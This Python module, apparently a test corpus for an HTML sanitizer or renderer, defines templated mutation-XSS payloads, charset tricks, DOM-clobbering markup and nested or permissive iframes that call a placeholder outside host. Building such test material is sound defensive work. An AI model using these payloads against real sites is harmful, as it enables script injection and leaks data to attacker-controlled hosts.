"""Pages in pages, and markup that is read otherwise the second time."""

from html import escape

_LEAF = "<script>{run}</script><img src='{out}/leaf' onerror=\"{run}\"><meta http-equiv=refresh content='0;url={out}/r'>"


def _framed(html: str, deep: int) -> str:
    for _ in range(deep):
        html = f'<iframe srcdoc="{escape(html)}"></iframe>'
    return html


# What is harmless to one parser and not to the next one.
TWICE = {
    "closed in a value": "<noscript><style></noscript><img src={out}/x onerror=\"{run}\">",
    "title in SVG": "<svg><title><style><img src={out}/x onerror=\"{run}\"></style></title></svg>",
    "style in MathML": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{run}\">",
    "table in MathML": "<math><mtext><table><mglyph><style><math><img src=x onerror=\"{run}\">",
    "break out of SVG": "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">",
    "annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=\"{run}\"></style></annotation-xml></math>",
    "desc": "<svg><desc><template><style></desc><img src=x onerror=\"{run}\">",
    "comment in a comment": "<svg><!--<p title='--!><img src=x onerror=\"{run}\">'>",
    "entities": "&lt;script&gt;{run}&lt;/script&gt;<p title='&quot;&gt;&lt;img src=x onerror={run}&gt;'>x",
    "attribute that ends its tag": "<p title='\"><script>{run}</script>'>x</p><p id='--><script>{run}</script>'>",
    "raw text": "<xmp>&lt;/xmp><img src='{out}/x' onerror=\"{run}\"></xmp>",
    "select": "<select><style></select><img src=x onerror=\"{run}\"></style></select>",
    "option": "<select><option><style></option></select><img src=x onerror=\"{run}\">",
    "title": "<title>&lt;/title><img src='{out}/t' onerror=\"{run}\"></title>",
    "UTF-7": "<meta charset=utf-7>+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "ISO-2022-JP": "<meta charset=iso-2022-jp><p title='\x1b$B'>\x1b(B<img src=x onerror=\"{run}\">'>",
    "byte order": "\ufeff<script>{run}</script>", "null": "<scr\0ipt>{run}</scr\0ipt>",
    "surrogate": "<p title='\U0001f600'><script>{run}</script>", "form feed": "<img\x0csrc=x\x0conerror={run}>",
    "duplicate": "<img src='data:,' onerror='' onerror=\"{run}\">", "unquoted": "<img src=x:x onerror={run}>",
    "names that stand in": "<form id=documentElement><input name=style></form><img name=fonts><img name=images>"
    "<form name=images><input name=length></form><a id=hawkDrawing></a><a id=hawkDecoded></a>",
    "names of what draws": "<form name=body><input name=scrollTo><input name=getBoundingClientRect></form>"
    "<img name=querySelectorAll><img name=adoptedStyleSheets><iframe name=self></iframe><a id=top></a>",
    "custom element": "<x-a is=img src='{out}/x' onerror=\"{run}\"></x-a><img is=x-a src='{out}/y'>",
}  # fmt: skip
FRAMES = {
    "in a frame": _framed(_LEAF, 1), "three deep": _framed(_LEAF, 3), "seven deep": _framed(_LEAF, 7),
    "in a sandbox that allows all": f'<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-forms allow-popups" srcdoc="{escape(_LEAF)}"></iframe>',
    "allowed all": "<iframe allow='camera *; fullscreen *' allowfullscreen credentialless src='{out}/a'></iframe>",
    "of data": "<iframe src=\"data:text/html,<script>{run}</script><img src='{out}/d'>\"></iframe>",
    "of nothing": "<iframe src='about:blank' onload=\"{run}\"></iframe><iframe></iframe>",
    "named": "<iframe name='_top'></iframe><a target=_top href='{out}/t' autofocus>x</a>",
    "in an object": "<object data='{out}/o'><iframe src='{out}/f'></iframe></object>",
    "in SVG": f"<svg><foreignObject width=99 height=99>{_framed(_LEAF, 2)}</foreignObject></svg>",
    "of XSLT": "<iframe src=\"data:text/xml,<?xml-stylesheet href='{out}/x' type='text/xsl'?><a/>\"></iframe>",
    "of XHTML": "<iframe src=\"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></html>\"></iframe>",
    "of a PDF": "<iframe src='data:application/pdf,%25PDF-1.4'></iframe><embed type='application/pdf' src='{out}/p'>",
    "of many": "<iframe srcdoc='<img src={out}/m>'></iframe>" * 40,
}  # fmt: skip

PAGES = {f"read again: {name}": html for name, html in TWICE.items()} | {
    f"frame {name}": html for name, html in FRAMES.items()
}
